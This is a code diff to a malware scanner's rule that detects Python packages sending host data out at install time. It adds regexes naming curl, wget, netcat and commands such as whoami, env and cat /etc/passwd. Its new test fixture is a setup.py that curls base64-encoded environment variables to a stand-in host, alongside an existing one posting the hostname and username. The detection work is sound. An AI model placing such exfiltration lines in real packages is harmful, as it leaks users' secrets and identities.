@@ -3,7 +3,7 @@ import type { PyPackage, PyReport } from '../../analysis/python/model.js';
 import { triggerOf } from '../../analysis/python/model.js';
 import { at, isAuto, when } from './util.js';
 import type { Dest } from '../../analysis/python/values.js';
-import { isHostileDest } from '../../analysis/python/values.js';
+import { isHostileDest, makeDest } from '../../analysis/python/values.js';
 import type { Severity } from '../../core/types.js';
 
 function isHostSource(l: string): boolean {
@@ -14,6 +14,12 @@ function isHostSource(l: string): boolean {
 function isIdentity(labels: readonly string[]): boolean {
   return labels.some((l) => l !== 'recon:platform' && l !== 'recon:files');
 }
+
+/** A network tool on the command line. */
+const NET_TOOL_RE = /(?:^|[\s;&|(`'"])(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?:\.exe)?\s/i;
+/** A command substitution that runs a host-identity or environment command (not `uname -m`: platform names pick downloads). */
+const SHELL_HOST_DATA_RE = /(?:\$\(|`)\s{0,3}((?:whoami|hostname|id|uname\s+-[an]|env|printenv|ifconfig|ip\s+a(?:ddr)?|cat\s+\/etc\/(?:passwd|hosts))\b[^)`]{0,80})/;
+const URL_IN_CMD_RE = /\b(?:https?|ftp):\/\/[^\s'"`)]{3,200}|\b\d{1,3}(?:\.\d{1,3}){3}\b/i;
 
 function destText(d: Dest | undefined): string {
   return d === undefined ? 'a computed destination' : `${d.host || d.raw} (${d.cls}${d.obfuscated ? ', hidden' : ''})`;
@@ -33,6 +39,7 @@ export const hostDataExfiltration = defineRule<PyPackage, PyReport>({
       positive: [
         { files: { 'setup.py': "import socket, getpass, requests\nd = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://collect.invalid/x', json=d)\n" } },
         { files: { 'setup.py': "import os, socket\nsocket.gethostbyname(os.getlogin() + '.probe.invalid')\n" } },
+        { files: { 'setup.py': "import os\nos.system('curl \"https://collect.invalid/x/$(env | base64 -w 0)\"')\n" } },
       ],
       negative: [
         { files: { 'setup.py': "import platform\nfrom setuptools import setup\nsetup(name='x', version=platform.python_version())\n" } },
@@ -57,6 +64,18 @@ export const hostDataExfiltration = defineRule<PyPackage, PyReport>({
         if (isAuto(loc.trigger)) severity = identity ? 'critical' : isHostileDest(s.dest) ? 'high' : 'medium';
         else severity = s.dest?.cls === 'messenger' || s.dest?.cls === 'oob' || s.dest?.cls === 'ip' || s.dest?.cls === 'onion' ? 'critical' : 'high';
         report({ ...loc, severity, message: `Sends ${recon.join(', ')} to ${destText(s.dest)} via ${s.via} ${when(loc.trigger)}.`, data: { sources: recon, destination: s.dest?.host } });
+      }
+    }
+    // Shell one-liners that splice host data into a request: `curl https://x/?u=$(whoami)`, `wget .../$(env | base64)`.
+    for (const file of pkg.files) {
+      for (const c of file.facts.commands) {
+        const trigger = triggerOf(file, c);
+        if (trigger !== 'install' && trigger !== 'startup') continue;
+        const m = SHELL_HOST_DATA_RE.exec(c.cmd);
+        if (m === null || !NET_TOOL_RE.test(c.cmd)) continue;
+        const dest = makeDest(URL_IN_CMD_RE.exec(c.cmd)?.[0] ?? '', false);
+        if (dest.cls === 'local' || dest.cls === 'vendor') continue;
+        report({ ...at(file, c), message: `Sends the output of \`${m[1] ?? ''}\` to ${destText(dest)} with a shell command ${when(trigger)}.` });
       }
     }
     for (const f of pkg.flows) {
